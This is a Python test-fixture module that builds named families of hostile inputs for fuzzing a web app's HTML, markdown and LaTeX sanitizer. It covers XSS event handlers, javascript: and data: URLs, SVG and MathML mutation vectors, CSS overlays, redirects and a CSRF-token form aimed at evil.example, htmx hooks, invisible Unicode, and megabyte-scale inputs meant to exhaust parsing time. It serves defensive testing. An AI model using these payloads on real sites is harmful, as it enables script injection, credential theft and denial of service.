"""Generated hostile texts: they try to run code, leave the page, imitate it, or take forever."""

import itertools
from dataclasses import dataclass

RUN = "window.ran=1"
"""What every attack tries to do; a test looks for it."""
BIG = 10_000
"""Characters from which a text is an attack on time and not on the parser alone."""


@dataclass(frozen=True)
class Payload:
    name: str
    text: str

    @property
    def is_big(self) -> bool:
        return len(self.text) > BIG


def payloads() -> list[Payload]:
    """All of them, by name."""
    families = {
        "handler": _handlers(),
        "scheme": _schemes(),
        "svg": _svg(),
        "mathml": _mathml(),
        "css": _css(),
        "breakout": _breakouts(),
        "ours": _our_own_hooks(),
        "invisible": _invisible(),
        "latex": _latex(),
        "size": _sizes(),
    }
    return [
        Payload(f"{family}-{number}", text)
        for family, texts in families.items()
        for number, text in enumerate(texts)
    ]


def names(n: int, *, length: int) -> list[str]:
    """`n` of them, all different, that fit where a name has `length` characters."""
    short = [
        payload.text
        for payload in payloads()
        if len(payload.text) <= length - 4 and "\n" not in payload.text.strip()
    ]
    return [
        f"{text.strip()} {number}"
        for number, text in enumerate(itertools.islice(itertools.cycle(short), n))
    ]


def _handlers() -> list[str]:
    tags = {
        "img": ("onerror", "src=x"),
        "video": ("onerror", "src=x autoplay"),
        "audio": ("onerror", "src=x"),
        "details": ("ontoggle", "open"),
        "input": ("onfocus", "autofocus"),
        "select": ("onfocus", "autofocus"),
        "textarea": ("onfocus", "autofocus"),
        "button": ("onfocus", "autofocus"),
        "body": ("onload", ""),
        "iframe": ("onload", "src=about:blank"),
        "object": ("onerror", "data=x"),
        "marquee": ("onstart", ""),
        "div": ("onpointerenter", "style=position:fixed;inset:0"),
        "form": ("onformdata", "id=answer"),
        "x": ("onanimationstart", "style=animation:spin 1s"),
        "dialog": ("onclose", "open"),
    }
    shapes = (
        "<{tag} {more} {event}={run}>",
        '<{tag} {more} {event}="{run}">',
        "<{tag}/{more}/{event}={run}//",
        "<{tag}\n{more}\n{event}\n=\n'{run}'>",
        "<{upper} {more} {event_upper}={run}>",
    )
    return [
        shape.format(
            tag=tag, upper=tag.upper(), event=event, event_upper=event.upper(), more=more, run=RUN
        )
        for (tag, (event, more)), shape in itertools.product(tags.items(), shapes)
    ]


def _schemes() -> list[str]:
    targets = (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f" javascript:{RUN}",
        f"&#106;avascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSI+",
        f"vbscript:{RUN}",
        "blob:https://evil.example/1",
        "//evil.example/x",
    )
    links = (
        "[press]({0})",
        "<{0}>",
        "![look]({0})",
        "[press][1]\n\n[1]: {0}",
        '<a href="{0}">press</a>',
        '<iframe src="{0}">',
    )
    return [link.format(target) for target, link in itertools.product(targets, links)]


def _svg() -> list[str]:
    return [
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:,{RUN} /></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href=javascript:{RUN}><text x=20 y=20>x</text></a></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
        f"<svg><set attributeName=href to=javascript:{RUN}>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
    ]


def _mathml() -> list[str]:
    return [
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
        f"<math href=javascript:{RUN}>x</math>",
        (
            "<math><annotation-xml encoding=text/html><img src=x"
            f" onerror={RUN}></annotation-xml></math>"
        ),
        f"<math><mi//xlink:href=data:x,<script>{RUN}</script>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        "<math><mspace width=99999px height=99999px></mspace></math>",
    ]


def _css() -> list[str]:
    return [
        "<style>*{display:none!important}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style='position:fixed;inset:0;z-index:9999;background:red'>over all</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<p class='desk-bar dialog' hidden>x</p>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
        f"<div style='width:expression({RUN})'>x</div>",
        "<font size=99999 color=red>x</font>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    ]


def _breakouts() -> list[str]:
    ends = (
        "</textarea>",
        "</pre>",
        "</template>",
        "</script>",
        "</title>",
        "</option></select>",
        "-->",
        "]]>",
        '">',
        "'>",
        "</div></form>",
    )
    attacks = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>")
    fences = [
        f'```"><script>{RUN}</script>\n{RUN}\n```',
        f"```html onload={RUN}\n<script>{RUN}</script>\n```",
        f"`</code><script>{RUN}</script>`",
    ]
    return [end + attack for end, attack in itertools.product(ends, attacks)] + fences


def _our_own_hooks() -> list[str]:
    """Attributes and names that this site's own scripts act on."""
    return [
        "<div hx-get=/logout/ hx-trigger=load>x</div>",
        f"<div hx-on::load={RUN}>x</div>",
        f'<div hx-vals="js:{{x:{RUN}}}" hx-post=/ hx-trigger=load>x</div>',
        "<div data-behavior='desk/write'>x</div>",
        "<div data-behavior='data:text/javascript,window.ran=1'>x</div>",
        "<button data-do=skip>x</button>",
        "<template data-say=offline>x</template>",
        "<input name=step value=submit><input name=rank-A value=1>",
        "<a id=answer name=elements>x</a><a id=toasts>y</a>",
        "<form id=answer action=https://evil.example/><input name=csrfmiddlewaretoken>",
        "<p id=main>x</p><article data-letter=Z>y</article>",
        "{{ request.user }} {% debug %} {{ 7|add:7 }}",
        (
            "<script"
            ' type=importmap>{"imports":{"js/app":"data:text/javascript,window.ran=1"}}</script>'
        ),
    ]


def _invisible() -> list[str]:
    marks = {
        "right to left override": "\u202e",
        "left to right override": "\u202d",
        "isolate": "\u2067",
        "embedding": "\u202b",
        "zero width space": "\u200b",
        "zero width joiner": "\u200d",
        "word joiner": "\u2060",
        "byte order mark": "\ufeff",
        "soft hyphen": "\u00ad",
        "tag characters": "\U000e0041\U000e0042",
        "variation selectors": "\ufe0f\ufe0e",
        "line separator": "\u2028",
        "next line": "\u0085",
        "interlinear": "\ufff9\ufffa\ufffb",
        "private use": "\ue000",
        "bell and escape": "\x07\x1b[31m",
        "vertical tab": "\x0b\x0c",
        "combining": "e" + "\u0301" * 300,
    }
    return [
        f"rank {mark}A first{mark} <{mark}script>{RUN}</script> [x]({mark}javascript:{RUN})"
        for mark in marks.values()
    ]


def _latex() -> list[str]:
    return [
        rf"$\text{{<script>{RUN}</script>}}$",
        rf"$\text{{</math><img src=x onerror={RUN}>}}$",
        rf"$$\href{{javascript:{RUN}}}{{x}}$$",
        r"\(\style{position:fixed}{x}\)",
        r"$\def\a{\a\a}\a$",
        r"$" + r"\frac{1}{" * 300 + "1" + "}" * 300 + "$",
        "$" + "x^{" * 500 + "1" + "}" * 500 + "$",
        "$" + r"\sqrt{" * 1500 + "$",
        r"$\rule{99999em}{99999em}$",
        r"$\color{red}\colorbox{url(https://evil.example)}{x}$",
    ]


def _sizes() -> list[str]:
    million = 1_000_000
    return [
        "a" * million,
        "a " * (million // 2),
        "<" * million,
        "&" * million,
        "*" * million,
        "`" * million,
        "[" * 50_000,
        "![" * 25_000,
        "[a](" * 12_000,
        ("[" * 190 + "]" * 190) * 130,
        "<a>" * 16_000,
        "<div>" * 20_000 + f"<script>{RUN}</script>",
        "> " * 20_000 + "deep",
        "- " * 20_000 + "deep",
        "".join(f"{'  ' * depth}- deep\n" for depth in range(300)),
        "*a_ " * 12_000,
        "**a __b " * 6_000,
        "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|b" * 5_000 + "|",
        "a|b\n-|-\n" + "c|d\n" * 10_000,
        "# " + "x" * 49_000,
        "```\n" + "x\n" * 20_000 + "```",
        "```python\n" + "(" * 9_900 + "\n```",
        "$" * 49_000,
        "$x$ " * 12_000,
        "\n" * 49_000 + "end",
        "\u202e" * 40_000 + "end",
        "\u0301" * 40_000,
        "\U0001f469\u200d" * 16_000,
        "&amp;" * 9_900,
        "[a]: /x\n" * 6_000,
        "<!--" * 12_000,
        "a\\" * 24_000,
    ]
